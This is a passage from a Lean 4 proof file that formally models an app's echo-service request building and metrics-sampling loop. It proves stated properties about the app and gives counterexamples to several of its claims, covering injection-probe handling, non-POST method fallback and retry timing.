    ∀ kv ∈ (call_echo_service initialState "hi" "GET" false (.response 200)).2.2.headers,
        strContains kv.2 vulnerable_msg = false :=
  (probe_injection_exact initialState "hi" "GET" (.response 200)).2 (by decide)

/-- Counterexample to C5 as stated: an EchoRequest with inject_probe
false whose message is the probe string itself still sends a payload that
contains the probe string. -/
theorem probe_in_payload_without_injection :
    strContains
      (call_echo_service initialState vulnerable_msg "GET" false (.response 200)).2.2.payloadMessage
      vulnerable_msg = true := by
  rw [call_echo_outbound, buildOutbound_payload]
  exact strContains_self vulnerable_msg

/-- C10: every method string that does not uppercase to POST results in a
GET request with the message embedded in the URL path; the call is still
processed normally (a 200 response yields a success result), no
unknown-method error exists in the code. -/
theorem non_post_method_sends_get (s : AppState) (message method : String)
    (vulnerable_payload : Bool) (outcome : HttpOutcome)
    (h : pyUpper method ≠ "POST") :
    (call_echo_service s message method vulnerable_payload outcome).2.2.isPost = false ∧
    (call_echo_service s message method vulnerable_payload outcome).2.2.url =
      echo_service_url ++ "/echo/" ++ effectiveMessage message vulnerable_payload ∧
    (call_echo_service s message method vulnerable_payload (.response 200)).2.1 =
      .success 200 method vulnerable_payload := by
  rw [call_echo_outbound]
  unfold buildOutbound
  rw [if_neg h]
  exact ⟨rfl, rfl, rfl⟩

/-- Witness for C10 at the lowercase method string "get". -/
theorem non_post_method_sends_get_witness :
    (call_echo_service initialState "hi" "get" false (.response 404)).2.2.isPost = false ∧
    (call_echo_service initialState "hi" "get" false (.response 404)).2.2.url =
      echo_service_url ++ "/echo/" ++ effectiveMessage "hi" false ∧
    (call_echo_service initialState "hi" "get" false (.response 200)).2.1 =
      .success 200 "get" false :=
  non_post_method_sends_get initialState "hi" "get" false (.response 404) (by decide)

/-- C8: amended. The sampler loop body is a total step followed by the
next iteration, so the loop never exits for any finite prefix of
outcomes; but after an iteration in which sampling fails the loop sleeps
the normal 5 seconds, not 10, because get_system_metrics catches the
failure internally and returns an empty dict (leaving the state
unchanged); the 10-second backoff branch of the loop is unreachable for
sampling failures. -/
theorem sampler_retry_period (s : AppState) (o : SampleOutcome) (msg : String)
    (os : List SampleOutcome) :
    (periodic_metrics_update_iteration s o).2 = 5 ∧
    (periodic_metrics_update_iteration s (.sampleError msg)).1 = s ∧
    run_sampler s (os ++ [o]) =
      (periodic_metrics_update_iteration (run_sampler s os) o).1 := by
  refine ⟨rfl, rfl, ?_⟩
  induction os generalizing s with
  | nil => rfl
  | cons o2 os ih =>
      simp only [run_sampler, List.cons_append]
      exact ih _

/-- Counterexample to C8 as stated: an iteration whose sampling fails is
followed by the normal 5-second sleep, not the 10-second backoff, and
leaves the state unchanged. -/
theorem sampler_failure_sleeps_5 :
    (periodic_metrics_update_iteration initialState (.sampleError "boom")).2 = 5 ∧
    (periodic_metrics_update_iteration initialState (.sampleError "boom")).2 ≠ 10 ∧
    (periodic_metrics_update_iteration initialState (.sampleError "boom")).1 = initialState :=
  ⟨rfl, by decide, rfl⟩

end LoadApp
